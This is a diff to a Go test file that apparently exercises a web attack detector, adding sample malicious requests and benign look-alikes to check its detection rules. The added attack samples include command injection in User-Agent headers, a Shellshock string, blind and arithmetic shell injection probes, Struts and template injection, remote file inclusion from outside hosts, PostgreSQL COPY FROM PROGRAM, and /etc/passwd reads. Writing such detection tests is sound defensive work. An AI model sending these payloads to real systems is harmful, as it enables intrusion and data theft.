@@ -67,6 +67,13 @@ func TestConfidenceOfAttacks(t *testing.T) {
 		"traversal in the path":   exchange("GET", "/static/..%2f..%2f..%2f..%2fetc%2fpasswd", "", ""),
 		"login by an operator":    exchange("POST", "/login", jsonType, `{"user":"admin","password":{"$ne":null}}`),
 		"the same in a form":      exchange("POST", "/login", "application/x-www-form-urlencoded", "user[$gt]=&pwd[$gt]="),
+		"command in an agent":     agent("Mozilla/5.0 (X11; Linux x86_64); id"),
+		"command in a comment":    agent("Mozilla/5.0 (X11; $(id); Linux x86_64)"),
+		"whoami in a comment":     agent("Mozilla/5.0 (X11; id; whoami; Linux x86_64)"),
+		"function of bash":        agent("() { :;}; id"),
+		"scanner":                 agent("Vega/1.0"),
+		"settings of Docker":      exchange("GET", "/.docker/config.json", "", ""),
+		"web shell":               exchange("GET", "/up/a.php?cmd=ls", "", ""),
 		"code for a database":     exchange("GET", "/find?$where=sleep(2000)", "", ""),
 		"external entity in JSON": exchange("POST", "/x", jsonType, `{"doc":"<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>"}`),
 	} {
@@ -85,6 +92,20 @@ func TestEvidence(t *testing.T) {
 		record map[string]string
 		rule   int
 	}{
+		"sum of a shell":                  {exchange("GET", "/ping?host="+url.QueryEscape("a; expr 41021 + 7713"), "", ""), 9703080},
+		"sum as a whole":                  {exchange("POST", "/cli", "application/x-www-form-urlencoded", "command=expr+41021+*+7713"), 9703080},
+		"sum of Windows":                  {exchange("GET", "/ping?host="+url.QueryEscape("a || set /a 4102*7713"), "", ""), 9703080},
+		"length of a text by time":        {exchange("GET", "/a/"+url.PathEscape("; s=$(echo QXZ); n=${#s}; if [ 3 -ne ${n} ]; then sleep 0; else sleep 1; fi"), "", ""), 9703080},
+		"digest that is printed":          {exchange("GET", "/a?content="+url.QueryEscape("die(@md5(lamp))"), "", ""), 9703081},
+		"sum that is printed":             {exchange("POST", "/a", "application/x-www-form-urlencoded", "order="+url.QueryEscape("}{end}print(41021+77135);")), 9703081},
+		"condition of a CMS":              {exchange("GET", "/search?keys="+url.QueryEscape("{if:=PHPINFO()}{end if}"), "", ""), 9703082},
+		"sum of Struts":                   {exchange("GET", "/a?id="+url.QueryEscape("lamp%{128*128}"), "", ""), 9703033},
+		"script of another host":          {exchange("GET", "/inc/a.php?root="+url.QueryEscape("http://203.0.113.7:8080/k3x?"), "", ""), 9703083},
+		"text of another host":            {exchange("GET", "/inc/a.php?root="+url.QueryEscape("http://files.example/a.txt??"), "", ""), 9703083},
+		"file by SQL":                     {exchange("POST", "/_sql", jsonType, `{"stmt":"COPY a FROM '/etc/passwd' WITH (format='csv')"}`), 9703084},
+		"program by SQL":                  {exchange("POST", "/_sql", jsonType, `{"stmt":"copy a (b) from program 'id'"}`), 9703084},
+		"command as a query":              {exchange("GET", "/cgi-bin/survey?cat%20/etc/hosts", "", ""), 9703085},
+		"file behind a text":              {exchange("GET", "/tex?path="+url.QueryEscape(`a" || echo db 90 4d 5a>>kxq`), "", ""), 9703086},
 		"operator for a password":         {exchange("POST", "/login", jsonType, `{"name":"a","password":{"$ne":null}}`), 9703044},
 		"operator in a parameter":         {exchange("GET", "/login?user[$regex]=.*&x=1", "", ""), 9703044},
 		"script for a database":           {exchange("POST", "/find", jsonType, `{"$where":"this.a == 1 || true"}`), 9703044},
@@ -205,6 +226,13 @@ func TestEvidenceIsNone(t *testing.T) {
 	}
 }
 
+// agent is a request of a program.
+func agent(name string) map[string]string {
+	r := exchange("GET", "/", "", "")
+	r["REQ_HEADER"] = strings.Replace(r["REQ_HEADER"], "okhttp/4.12.0", name, 1)
+	return r
+}
+
 // uploaded is a form with a file.
 func uploaded(name, content string) map[string]string {
 	return exchange("POST", "/files", "multipart/form-data; boundary=b7", "--b7\r\nContent-Disposition: form-data; name=\"file\"; filename=\""+name+"\"\r\n\r\n"+content+"\r\n--b7--\r\n")
@@ -300,6 +328,25 @@ func TestConfidenceOfOrdinaryTraffic(t *testing.T) {
 		"text in a link of data":     exchange("POST", "/notes", jsonType, `{"file":"data:text/plain;charset=utf-8;base64,Tm90ZXMgb2YgdGhlIG1lZXRpbmc6IG1pbGsgJiBicmVhZA=="}`),
 		"codes of characters":        exchange("GET", "/a?t="+url.QueryEscape("String.fromCharCode(72,101,108,108,111,44,32,65,110,110)"), "", ""),
 		"words with bars":            exchange("GET", "/a?t="+url.QueryEscape("table | id order; sleep well, cat food & ping pong"), "", ""),
+		"browser in Indonesian":      agent("Opera/9.80 (J2ME/MIDP; Opera Mini/5.1/22.4; U; id) Presto/2.5.25"),
+		"browser in Romansh":         agent("Mozilla/5.0 (Windows; U; Windows NT 5.1; rm; rv:1.9) Gecko/2009 Firefox/3.5"),
+		"screen to touch":            agent("Mozilla/5.0 (Windows Phone 8.1; ARM; Trident/7.0; Touch; rv:11.0) like Gecko"),
+		"packages of Debian":         agent("Debian APT-HTTP/1.3 (2.6.1)"),
+		"telephone called Vega":      agent("Mozilla/5.0 (Linux; Android 4.1; Vega Build/A1) AppleWebKit/537"),
+		"settings of a page":         exchange("GET", "/assets/config.json", "", ""),
+		"job of Jenkins":             exchange("GET", "/job/shop/config.xml", "", ""),
+		"settings of a model":        exchange("GET", "/content?path=models%2Flamp-7%2Fadapter_config.json", "", ""),
+		"files that are joined":      exchange("GET", "/_static/??/wp-includes/css/a.css,/wp-content/b.css?m=17", "", ""),
+		"page of joined files":       exchange("GET", "/a.svg", "", "", "Referer: https://shop.internal/_static/??/css/a.css,/b.css"),
+		"base64 in lines":            exchange("POST", "/jobs", "application/x-www-form-urlencoded", "eyJ0YXJnZXQiOiJzaG9wL2xhbXBz\nIiwiZGVwdGgiOjN9\n"),
+		"list of a file manager":     exchange("GET", "/php/connector.php?cmd=ls&target=l1_cGljdHVyZXM&intersect[]=a.png&reqid=19a", "", "", `answer: {"list":[]}`),
+		"step with a sum":            exchange("POST", "/jobs", jsonType, `{"run":"total=$(expr $a + 1)\nif [ $total -ne ${#list} ]; then sleep 3; echo \"less\" >> log.txt; fi"}`),
+		"question about expr":        exchange("GET", "/search?q="+url.QueryEscape("how does expr 100 + 200 work"), "", ""),
+		"template of a mail":         exchange("POST", "/mails", jsonType, `{"text":"{if $name}Dear {$name}{else}Hello{/if} {if: name}"}`),
+		"address with a question":    exchange("GET", "/out.php?u="+url.QueryEscape("https://partner.example/lamps.php?"), "", ""),
+		"picture from a machine":     exchange("GET", "/thumb.php?src="+url.QueryEscape("http://10.4.0.9/a.png")+"&w=90", "", ""),
+		"table from a file":          exchange("POST", "/_sql", jsonType, `{"stmt":"COPY orders FROM 's3://shop/orders.csv' WITH (format='csv')"}`),
+		"query without a value":      exchange("GET", "/list?cat&more&type", "", ""),
 		"GraphQL":                    exchange("POST", "/graphql", jsonType, `{"query":"{ shop { __typename name } }"}`, `answer: {"data":{"shop":{"__typename":"Shop","name":"a"}}}`),
 	} {
 		t.Run(name, func(t *testing.T) {
